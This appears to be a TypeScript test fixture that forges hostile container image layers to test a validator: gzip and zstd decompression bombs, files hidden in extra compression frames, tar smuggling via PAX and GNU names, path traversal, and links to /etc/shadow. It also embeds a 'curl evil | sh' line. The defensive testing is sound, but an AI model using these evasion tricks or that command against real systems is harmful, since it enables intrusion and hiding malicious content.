import { createGzip, createZstdCompress } from 'node:zlib';
import { createHash } from 'node:crypto';
import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { type BuiltImage, describeBytes, mediaType } from '@pratique/oci';
import { goodLayer, gzip, image, layer, type Layer, plain, zstd } from './forge-image.js';
import type { HostileTable } from './hostile-table.js';
import { endOfTar, entry, file, gnuLongName, header, padded, pax, tar } from './tar-forge.js';

const good = tar(file('main.bicep'));
const hidden = tar(file('run.sh', 'curl evil | sh\n'));
const gnu = 'ustar  \0';

const ofTar = (bytes: Buffer) => (): BuiltImage => image([plain(bytes)]);
/** Bytes that are said to unpack to the good tar, as a naive reader would find. */
const ofGzip = (bytes: Buffer) => (): BuiltImage => image([layer(bytes, good)]);
const ofZstd = (bytes: Buffer) => (): BuiltImage => image([layer(bytes, good, `${mediaType.ociLayer}+zstd`)]);

/** What hides behind compression. */
export const compressions: HostileTable = {
  'a gzip bomb of allowed content': ['limit-exceeded', () => bomb('gzip', 256)],
  'a zstd bomb of allowed content': ['limit-exceeded', () => bomb('zstd', 1024)],
  'a gzip bomb within gzip': ['not-readable', async () => nested(await bomb('gzip', 128))],
  'a zstd frame that asks for a window of 2 GiB': ['not-readable', ofZstd(zstdHeader('a8'))],
  'a zstd frame that asks for a window of 256 MiB': ['not-readable', ofZstd(zstdHeader('90'))],
  'a zstd frame with a dictionary': ['not-readable', ofZstd(Buffer.from('28b52ffd2107000000090000', 'hex'))],
  'a second zstd frame behind the end': ['not-readable', ofZstd(both(zstd(good), zstd(hidden)))],
  'a zstd frame behind one that is skipped': [
    'not-readable',
    ofZstd(both(zstd(good), skippable(4), zstd(hidden))),
  ],
  'a zstd frame before which one is skipped': [
    'failed',
    () => image([layer(both(skippable(4), zstd(hidden)), hidden, `${mediaType.ociLayer}+zstd`)]),
  ],
  'a file in the second of two zstd frames': [
    'failed',
    () => image([inTwo(zstd, `${mediaType.ociLayer}+zstd`)]),
  ],
  'nothing but skipped zstd frames': ['not-readable', ofZstd(skippable(100))],
  'a skipped zstd frame that breaks off': ['not-readable', ofZstd(Buffer.from('502a4d18ffffffff00', 'hex'))],
  'an old zstd format behind a frame': [
    'not-readable',
    ofZstd(both(zstd(good), Buffer.from('27b52ffd00', 'hex'))),
  ],
  'zstd that breaks off': ['not-readable', ofZstd(zstd(good).subarray(0, -3))],
  'a damaged zstd block': ['not-readable', ofZstd(flipped(zstd(good), 12))],
  'garbage behind zstd': ['not-readable', ofZstd(both(zstd(good), Buffer.from('garbage')))],
  'a second gzip member behind the end': ['not-readable', ofGzip(both(gzip(good), gzip(hidden)))],
  'a gzip member behind a zero byte': [
    'not-readable',
    ofGzip(both(gzip(good), Buffer.alloc(1), gzip(hidden))),
  ],
  'a file in the second of two gzip members': ['failed', () => image([inTwo(gzip, mediaType.ociLayerGzip)])],
  'a file behind 20,000 empty gzip members': [
    'failed',
    () => image([layer(both(...Array<Buffer>(20_000).fill(gzip(Buffer.alloc(0))), gzip(hidden)), hidden)]),
  ],
  'garbage behind gzip': ['not-readable', ofGzip(both(gzip(good), Buffer.from('garbage')))],
  'gzip that breaks off': ['not-readable', ofGzip(gzip(good).subarray(0, -9))],
  'a wrong gzip checksum': ['not-readable', ofGzip(flipped(gzip(good), -6))],
  'a wrong gzip length': ['not-readable', ofGzip(flipped(gzip(good), -2))],
  'a reserved gzip method': ['not-readable', ofGzip(flipped(gzip(good), 2))],
  'gzip of gzip': ['not-readable', ofGzip(gzip(gzip(good)))],
  bzip2: ['not-readable', ofGzip(Buffer.from('BZh91AY&SY' + '0'.repeat(600)))],
  xz: ['not-readable', ofGzip(Buffer.from(`fd377a585a00${'00'.repeat(600)}`, 'hex'))],
  'a zip archive as a layer': ['not-readable', ofGzip(Buffer.from(`504b0304${'00'.repeat(600)}`, 'hex'))],
  'no bytes at all': ['nothing-to-check', () => image([plain(Buffer.alloc(0))])],
};

/** What hides in a tar. */
export const archives: HostileTable = {
  'a tar behind the end of the tar': ['not-readable', ofTar(both(good, hidden))],
  'an entry behind one zero block': [
    'not-readable',
    ofTar(both(file('main.bicep'), Buffer.alloc(512), hidden)),
  ],
  'a text behind the end of the tar': ['not-readable', ofTar(both(good, Buffer.from('more')))],
  'a tar that breaks off in a file': ['not-readable', ofTar(good.subarray(0, 520))],
  'a tar that breaks off in a header': ['not-readable', ofTar(good.subarray(0, 300))],
  'a tar that breaks off in the padding': ['not-readable', ofTar(good.subarray(0, 1000))],
  'a file that is said to be larger than the tar': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: 10_000_000 }), padded('x'))),
  ],
  'a path that climbs': ['not-readable', ofTar(tar(file('../main.bicep')))],
  'an absolute path that climbs': ['not-readable', ofTar(tar(file('/a/../../main.bicep')))],
  'a file through a link': [
    'failed',
    ofTar(tar(entry({ name: 'a', type: '2', link: '/etc' }), file('a/main.bicep'))),
  ],
  'a link under an allowed name': [
    'failed',
    ofTar(tar(entry({ name: 'main.bicep', type: '2', link: '/etc/shadow' }))),
  ],
  'a hard link out of the image': [
    'failed',
    ofTar(tar(entry({ name: 'main.bicep', type: '1', link: '../../etc/shadow' }))),
  ],
  'a character device': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '3' })))],
  'a block device': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '4' })))],
  'a pipe': ['failed', ofTar(tar(entry({ name: 'main.bicep', type: '6' })))],
  'a whiteout of everything below': ['failed', ofTar(tar(file('.wh..wh..opq', ''), file('main.bicep')))],
  'a link with content that is a header': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: '2', link: 'x' }, header({ name: 'run.sh' })))),
  ],
  'a folder with content': ['not-readable', ofTar(tar(entry({ name: 'main.bicep/', type: '5' }, hidden)))],
  'a file whose name ends as a folder does': ['not-readable', ofTar(tar(file('main.bicep/')))],
  'an unknown kind of entry': [
    'not-readable',
    ofTar(tar(file('main.bicep'), entry({ name: 'x', type: 'Z' }))),
  ],
  'a part of a multi-volume archive': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'M', magic: gnu }, 'x'))),
  ],
  'a GNU sparse file': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'S', magic: gnu }, 'x'))),
  ],
  'a PAX sparse file': [
    'not-readable',
    ofTar(
      tar(
        pax([
          ['GNU.sparse.name', 'run.sh'],
          ['GNU.sparse.major', '1'],
        ]),
        file('main.bicep'),
      ),
    ),
  ],
  'an old Solaris header': [
    'not-readable',
    ofTar(tar(entry({ name: 'main.bicep', type: 'X' }, 'x'), file('main.bicep'))),
  ],
  'a PAX path over an allowed name': ['failed', ofTar(tar(pax([['path', 'run.sh']]), file('main.bicep')))],
  'a PAX size that uncovers an entry': [
    'failed',
    ofTar(tar(pax([['size', '0']]), file('main.bicep', file('run.sh')))),
  ],
  'two PAX paths': [
    'not-readable',
    ofTar(
      tar(
        pax([
          ['path', 'run.sh'],
          ['path', 'a.bicep'],
        ]),
        file('main.bicep'),
      ),
    ),
  ],
  'two PAX headers': [
    'not-readable',
    ofTar(tar(pax([['path', 'run.sh']]), pax([['path', 'a.bicep']]), file('main.bicep'))),
  ],
  'a PAX record of a wrong length': [
    'not-readable',
    ofTar(tar(entry({ name: 'p', type: 'x' }, '30 path=run.sh\n'), file('main.bicep'))),
  ],
  'a PAX path with NUL': ['not-readable', ofTar(tar(pax([['path', 'a.bicep\0run.sh']]), file('main.bicep')))],
  'an empty PAX path': ['not-readable', ofTar(tar(pax([['path', '']]), file('main.bicep')))],
  'a global PAX path': ['not-readable', ofTar(tar(pax([['path', 'run.sh']], 'g'), file('main.bicep')))],
  'a PAX header of 2 MiB': [
    'limit-exceeded',
    ofTar(tar(pax([['comment', 'x'.repeat(2 ** 21)]]), file('main.bicep'))),
  ],
  'a PAX size that is no number': ['not-readable', ofTar(tar(pax([['size', '0x0']]), file('main.bicep')))],
  'a PAX header without an entry': [
    'not-readable',
    ofTar(tar(file('main.bicep'), pax([['path', 'run.sh']]))),
  ],
  'a PAX and a GNU name': [
    'not-readable',
    ofTar(tar(pax([['path', 'a.bicep']]), gnuLongName('run.sh'), file('main.bicep'))),
  ],
  'a GNU name over an allowed one': ['failed', ofTar(tar(gnuLongName('run.sh'), file('main.bicep')))],
  'two GNU names': [
    'not-readable',
    ofTar(tar(gnuLongName('run.sh'), gnuLongName('a.bicep'), file('main.bicep'))),
  ],
  'a GNU name within a GNU name': [
    'not-readable',
    ofTar(tar(gnuLongName('a.bicep\0run.sh'), file('main.bicep'))),
  ],
  'a GNU name that climbs': ['not-readable', ofTar(tar(gnuLongName('../../main.bicep'), file('main.bicep')))],
  'a GNU name of 5,000 characters': [
    'limit-exceeded',
    ofTar(tar(gnuLongName(`${'a/'.repeat(2500)}main.bicep`), file('main.bicep'))),
  ],
  'a negative size': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.alloc(12, 0xff) }))),
  ],
  'a size of 2^70': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.from('800000400000000000000000', 'hex') }))),
  ],
  'a size that is no number': [
    'not-readable',
    ofTar(tar(header({ name: 'main.bicep', size: Buffer.from('0x000000000\0') }))),
  ],
  'a wrong checksum': ['not-readable', ofTar(tar(header({ name: 'main.bicep', checksum: 1 })))],
  'an archive from before POSIX': ['not-readable', ofTar(tar(header({ name: 'main.bicep', magic: '' })))],
  'an ambiguous GNU header': ['not-readable', ofTar(tar(ambiguous()))],
  'a good layer before a bad one': ['failed', () => image([goodLayer, plain(hidden)])],
  '1,000,000 entries': ['limit-exceeded', () => manyEntries(1_000_000)],
};

function both(...parts: readonly Buffer[]): Buffer {
  return Buffer.concat(parts);
}

function flipped(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  const index = at < 0 ? copy.length + at : at;
  copy[index] = (copy[index] ?? 0) ^ 0x55;
  return copy;
}

/** A frame that is not of one segment, with a window as its descriptor byte says. */
function zstdHeader(window: string): Buffer {
  return Buffer.from(`28b52ffd00${window}010000`, 'hex');
}

function skippable(length: number): Buffer {
  const start = Buffer.from('502a4d1800000000', 'hex');
  start.writeUInt32LE(length, 4);
  return both(start, Buffer.alloc(length, 1));
}

/** A tar cut in two, each part compressed by itself. */
function inTwo(compress: (bytes: Buffer) => Buffer, type: string): Layer {
  const start = file('main.bicep');
  return layer(both(compress(start), compress(hidden)), both(start, hidden), type);
}

function ambiguous(): Buffer {
  const bytes = header({ name: 'main.bicep', magic: gnu });
  bytes.write('some/prefix', 345);
  bytes.write('        ', 148);
  const sum = bytes.reduce((total, byte) => total + byte, 0);
  bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return bytes;
}

/** Mebibytes of spaces, which are allowed as text, with everything else right. */
async function bomb(codec: 'gzip' | 'zstd', mebibytes: number): Promise<BuiltImage> {
  const size = mebibytes * 2 ** 20;
  const spaces = Buffer.alloc(2 ** 20, ' ');
  return image([
    await streamed(codec, function* () {
      yield header({ name: 'main.bicep', size });
      for (let at = 0; at < mebibytes; at++) yield spaces;
      yield endOfTar;
    }),
  ]);
}

/** Entries of different names, so that they do not compress as a bomb does. */
async function manyEntries(count: number): Promise<BuiltImage> {
  const digits = 7;
  const template = header({ name: `${'0'.repeat(digits)}.bicep` });
  const baseSum = Number.parseInt(template.toString('latin1', 148, 154), 8);
  const entryOf = (number: number): Buffer => {
    const bytes = Buffer.from(template);
    const name = String(number).padStart(digits, '0');
    const sum = [...name].reduce((total, digit) => total + Number(digit), baseSum);
    bytes.write(name, 0, 'latin1');
    bytes.write(sum.toString(8).padStart(6, '0'), 148, 'latin1');
    return bytes;
  };
  const batch = 1_000;
  return image([
    await streamed('gzip', function* () {
      for (let at = 0; at < count; at += batch) {
        yield both(...Array.from({ length: batch }, (_, index) => entryOf(at + index)));
      }
      yield endOfTar;
    }),
  ]);
}

async function streamed(codec: 'gzip' | 'zstd', parts: () => Iterable<Buffer>): Promise<Layer> {
  const hash = createHash('sha256');
  const hashed = function* (): Generator<Buffer> {
    for (const part of parts()) {
      hash.update(part);
      yield part;
    }
  };
  const compressor = codec === 'gzip' ? createGzip({ level: 1 }) : createZstdCompress();
  const bytes = await buffer(Readable.from(hashed()).pipe(compressor));
  const type = codec === 'gzip' ? mediaType.ociLayerGzip : `${mediaType.ociLayer}+zstd`;
  return { ...describeBytes(bytes, type), diffId: `sha256:${hash.digest('hex')}` };
}

function nested(inner: BuiltImage): BuiltImage {
  const bytes = inner.blobs[1]?.bytes ?? Buffer.alloc(0);
  return image([layer(gzip(bytes), bytes)]);
}
